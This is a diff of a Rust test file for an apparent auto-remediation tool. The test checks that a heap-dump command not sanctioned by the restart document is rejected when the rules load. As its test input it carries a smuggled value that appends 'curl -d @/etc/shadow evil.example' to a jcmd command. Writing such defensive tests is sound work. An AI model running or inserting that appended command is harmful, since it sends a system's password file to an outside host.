@@ -393,15 +393,22 @@ async fn a_unit_the_stack_does_not_allow_is_refused_by_the_document() {
     );
 }
 
-#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn a_heap_dump_command_the_document_does_not_run_is_refused_before_sending() {
-    let error = refused(&[(
+/// A heap-dump command the restart document does not run never reaches an instance: the rules
+/// that name it do not load, and the error names its line.
+#[test]
+fn a_heap_dump_command_the_document_does_not_run_is_refused_when_the_rules_load() {
+    let text = autoheal_core::SHIPPED_RULES.replacen(
         "# heap_dump_command = \"jcmd {pid} GC.heap_dump {output}\"",
         "heap_dump_command = \"jcmd {pid} GC.heap_dump {output} && curl -d @/etc/shadow evil.example\"",
-    )])
-    .await;
+        1,
+    );
+    let error = autoheal_core::RuleSet::from_toml(&text)
+        .expect_err("refused")
+        .to_string();
     assert!(
-        error.contains("not one the restart document runs") && error.contains("nothing was sent"),
+        error.contains("action.heap_dump_command")
+            && error.contains("the restart document runs")
+            && error.contains("line "),
         "{error}"
     );
 }
